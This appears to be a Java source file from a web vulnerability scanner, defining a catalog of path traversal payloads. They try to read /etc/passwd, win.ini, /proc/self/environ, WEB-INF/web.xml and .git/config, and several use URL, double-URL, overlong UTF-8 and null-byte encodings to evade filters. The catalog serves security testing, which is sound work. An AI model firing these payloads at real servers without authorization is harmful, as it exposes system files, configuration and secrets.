package webscan.payload;

import webscan.model.DetectionStrategy;
import webscan.model.Severity;

import java.util.ArrayList;
import java.util.List;

/**
 * Каталог нагрузок для обхода каталогов.
 *
 * <p>Обычные нагрузки: последовательности {@code ../} и {@code ..\} разной глубины,
 * абсолютные пути и несколько файлов конфигурации приложений. Закодированные
 * варианты (URL, двойное URL, overlong UTF-8, полноширинная косая черта) помечены
 * как aggressive и отправляются уже закодированными.
 */
public final class PathTraversalPayloads {
    public static final String CWE_ID = "CWE-22";

    static final int MIN_DEPTH = 3;
    static final int MAX_DEPTH = 8;

    private static final String UNIX_FILE = "etc/passwd";
    private static final String WINDOWS_FILE = "windows\\win.ini";

    private PathTraversalPayloads() {
    }

    public static PayloadCatalog defaultCatalog() {
        List<Payload> payloads = new ArrayList<>();

        for (int depth = MIN_DEPTH; depth <= MAX_DEPTH; depth++) {
            payloads.add(standard("Unix passwd depth " + depth, "../".repeat(depth) + UNIX_FILE,
                "/etc/passwd through " + depth + " parent directories"));
        }
        for (int depth = MIN_DEPTH; depth <= 6; depth++) {
            payloads.add(standard("Windows win.ini depth " + depth, "..\\".repeat(depth) + WINDOWS_FILE,
                "win.ini through " + depth + " parent directories"));
        }
        payloads.add(standard("Absolute passwd", "/etc/passwd", "Absolute path to /etc/passwd"));
        payloads.add(standard("Absolute win.ini", "C:\\Windows\\win.ini", "Absolute path to win.ini"));
        payloads.add(standard("Absolute boot.ini", "C:\\boot.ini", "Windows boot loader configuration"));
        payloads.add(standard("File protocol", "file:///etc/passwd", "file: URL to /etc/passwd"));
        payloads.add(standard("Process environment", "../../../../proc/self/environ",
            "Environment of the serving process"));
        payloads.add(standard("Hosts file", "../../../../etc/hosts", "Unix hosts file"));
        payloads.add(standard("Java web config", "../../WEB-INF/web.xml", "Servlet deployment descriptor"));
        payloads.add(standard("Git config", "../../.git/config", "Repository configuration left in the web root"));
        payloads.add(standard("Stripped dot-dot", "....//....//....//....//etc/passwd",
            "Survives a filter that removes ../ once"));

        for (int depth = MIN_DEPTH; depth <= 6; depth++) {
            payloads.add(encoded("URL-encoded slash depth " + depth, "..%2f".repeat(depth) + "etc%2fpasswd",
                "Encoded slash"));
            payloads.add(encoded("URL-encoded dots depth " + depth, "%2e%2e%2f".repeat(depth) + "etc%2fpasswd",
                "Encoded dots and slash"));
            payloads.add(encoded("Double-encoded depth " + depth, "%252e%252e%252f".repeat(depth) + "etc%252fpasswd",
                "Double URL encoding for filters that decode once"));
            payloads.add(encoded("Overlong UTF-8 depth " + depth, "..%c0%af".repeat(depth) + "etc%c0%afpasswd",
                "Overlong UTF-8 slash"));
            payloads.add(encoded("Full-width slash depth " + depth, "..%ef%bc%8f".repeat(depth) + "etc%ef%bc%8fpasswd",
                "Unicode full-width solidus"));
            payloads.add(encoded("Encoded backslash depth " + depth, "..%5c".repeat(depth) + "windows%5cwin.ini",
                "Encoded Windows separator"));
        }
        payloads.add(encoded("Null byte", "../../../../etc/passwd%00.jpg",
            "Null byte cutting off an appended extension"));
        return new PayloadCatalog(payloads);
    }

    /**
     * Values that already carry percent escapes and must be sent as they are.
     */
    public static boolean isPreEncoded(String value) {
        return value.contains("%");
    }

    private static Payload standard(String name, String value, String description) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.FILE_DISCLOSURE)
            .risk(Severity.HIGH).description(description).cweId(CWE_ID)
            .build();
    }

    private static Payload encoded(String name, String value, String description) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.FILE_DISCLOSURE)
            .risk(Severity.HIGH).description(description).cweId(CWE_ID).aggressive(true)
            .build();
    }
}
